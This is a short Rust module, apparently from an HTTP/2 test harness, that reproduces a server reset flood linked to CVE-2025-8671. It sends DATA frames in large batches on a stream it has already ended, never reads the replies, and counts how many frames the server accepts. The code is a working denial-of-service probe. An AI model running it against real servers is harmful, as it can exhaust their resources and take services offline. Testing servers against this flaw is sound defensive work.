//! Frames that have their stream reset by the server (CVE-2025-8671): each costs it a frame in return, and
//! nobody reads those.

use std::net::SocketAddr;

use super::{Blocks, Wire};
use crate::peer::h2::Frame;

/// Ends one stream and goes on to send DATA on it, `count` times, without reading a byte. The connection, as it is then,
/// and how many of the frames the server took.
pub async fn run(address: SocketAddr, path: &str, count: usize) -> (Wire, usize) {
    let mut wire = Wire::http2_deaf(address, &[]).await;
    let block = Blocks::new(path).block();
    let open = Frame::new(
        crate::peer::h2::kind::HEADERS,
        END_HEADERS | END_STREAM,
        1,
        block,
    );
    wire.send(open.encode()).await;
    wire.hear("an answer", |heard| heard.ended > 0).await;
    let late = Frame::data(1, vec![0; LEN], false).encode();
    let batch = late.repeat(BATCH);
    let mut taken = 0;
    while taken < count {
        let sent = wire.send_deaf(&batch).await;
        taken += sent / late.len();
        if sent < batch.len() {
            break;
        }
    }
    (wire, taken)
}

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const LEN: usize = 1;
const BATCH: usize = 1_000;
